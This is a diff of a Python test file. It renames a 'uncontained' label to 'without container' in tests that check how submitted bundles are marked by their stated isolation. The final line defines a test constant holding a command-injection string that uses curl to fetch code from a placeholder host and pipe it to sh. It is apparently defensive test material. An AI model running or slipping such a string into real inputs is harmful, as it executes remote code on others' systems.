@@ -152,7 +152,7 @@ def test_a_bundle_that_says_in_a_container_is_marked_as_saying_so(tonegap, send_
     tonegap("submit", "add", send_bundle(truth, theirs=7))  # the records say contained
     (marks,) = [row["marks"] for label, row in rows(tonegap).items() if "theirs" in label]
     assert "says: in a container" in marks
-    assert "uncontained" not in marks
+    assert "without container" not in marks
     assert not any(
         "says: in a container" in r["marks"]
         for label, r in rows(tonegap).items()
@@ -160,12 +160,12 @@ def test_a_bundle_that_says_in_a_container_is_marked_as_saying_so(tonegap, send_
     )
 
 
-def test_a_bundle_that_says_no_container_is_marked_uncontained(tonegap, forge, truth):
+def test_a_bundle_that_says_no_container_is_marked_without_container(tonegap, forge, truth):
     where = plain_record().circumstances
     where = msgspec.structs.replace(where, isolation=Isolation("local", False, "off", "", {}))
     assert not tonegap("submit", "add", forge(truth, {0: 9}, circumstances=where))[0]
     (marks,) = [row["marks"] for label, row in rows(tonegap).items() if "theirs" in label]
-    assert "uncontained" in marks
+    assert "without container" in marks
 
 
 EVIL = "local; curl https://example.org/x |sh #"
